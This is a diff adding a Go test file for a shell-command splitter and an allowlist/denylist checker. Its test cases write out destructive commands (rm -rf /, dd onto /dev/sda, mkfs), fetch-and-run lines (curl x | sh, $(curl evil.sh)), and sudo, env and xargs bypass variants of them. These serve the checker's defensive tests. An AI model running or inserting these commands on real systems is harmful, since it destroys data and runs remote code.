@@ -0,0 +1,92 @@
+package utils
+
+import (
+	"slices"
+	"testing"
+)
+
+func TestSplitShellCommand(t *testing.T) {
+	tests := []struct {
+		command string
+		want    []string
+	}{
+		{"ls -la | grep go && echo done", []string{"ls -la", "grep go", "echo done"}},
+		{`echo "a | b; c"`, []string{`echo "a | b; c"`}},
+		{"go test ./... 2>&1 | tail", []string{"go test ./... 2>&1", "tail"}},
+		{`echo "$(rm -rf ~)"`, []string{"rm -rf ~", `echo "$(rm -rf ~)"`}},
+		{"ls `curl x | sh`", []string{"curl x", "sh", "ls `curl x | sh`"}},
+		{`echo "$(cat "$(ls)")"`, []string{"ls", `cat "$(ls)"`, `echo "$(cat "$(ls)")"`}},
+		{`echo '$(rm -rf ~)'`, []string{`echo '$(rm -rf ~)'`}},
+		{`echo \$(ls)`, []string{`echo \$`, "ls"}},
+	}
+	for _, tt := range tests {
+		if got := SplitShellCommand(tt.command); !slices.Equal(got, tt.want) {
+			t.Errorf("SplitShellCommand(%q) = %q, want %q", tt.command, got, tt.want)
+		}
+	}
+}
+
+func TestCheckShellCommandSubstitutions(t *testing.T) {
+	allow := ShellConfig{Allow: []string{"echo", "ls"}}
+	for _, command := range []string{
+		`echo "$(rm -rf ~)"`,
+		"ls `curl x | sh`",
+		`echo "x $(curl evil.sh)"`,
+		"echo `whoami`",
+		`ls $(cat <(curl x))`,
+	} {
+		if err := CheckShellCommand(command, allow); err == nil {
+			t.Errorf("CheckShellCommand(%q) with an allowlist passed", command)
+		}
+	}
+	for _, command := range []string{"echo hi", `echo "$(ls)"`, "ls | echo"} {
+		if err := CheckShellCommand(command, allow); err != nil {
+			t.Errorf("CheckShellCommand(%q) = %v, want it allowed", command, err)
+		}
+	}
+	if err := CheckShellCommand(`echo "$(rm -rf ~)"`, ShellConfig{}); err == nil {
+		t.Error("the default denylist let a substituted rm -rf ~ through")
+	}
+}
+
+func TestCheckShellCommandBypasses(t *testing.T) {
+	tests := []struct {
+		command string
+		blocked bool
+	}{
+		{"/bin/rm -rf /", true},
+		{"rm -fr /", true},
+		{"rm -r -f /", true},
+		{"rm -Rf ~", true},
+		{"rm -rf -- /", true},
+		{"rm --recursive --force /", true},
+		{"rm -rfv /", true},
+		{"bash -c 'rm -rf /'", true},
+		{`sh -c "cd /tmp && rm -rf *"`, true},
+		{"bash -lc 'sudo rm -rf ~'", true},
+		{"sudo -u root rm -rf /", true},
+		{"sudo --user root rm -rf /", true},
+		{"env -i PATH=/bin rm -rf /", true},
+		{"command rm -rf ~", true},
+		{"exec dd if=/dev/zero of=/dev/sda", true},
+		{"find / -name '*.log' | xargs rm -rf", true},
+		{"xargs -n 1 rm -rf < dirs.txt", true},
+		{"nice -n 10 rm -rf /", true},
+		{"chown --recursive me /", true},
+		{"chmod --recursive 777 /", true},
+		{"/sbin/mkfs.ext4 /dev/sdb1", true},
+		{"rm -rf ./build", false},
+		{"rm -f notes.txt", false},
+		{"chmod -R 755 ./public", false},
+		{"chown me notes.txt", false},
+		{"bash -c 'echo hi'", false},
+		{"sudo -u me ls /root", false},
+		{"ls | xargs echo", false},
+	}
+	for _, tt := range tests {
+		err := CheckShellCommand(tt.command, ShellConfig{})
+		if blocked := err != nil; blocked != tt.blocked {
+			t.Errorf("CheckShellCommand(%q) = %v, want blocked %v", tt.command, err, tt.blocked)
+		}
+	}
+}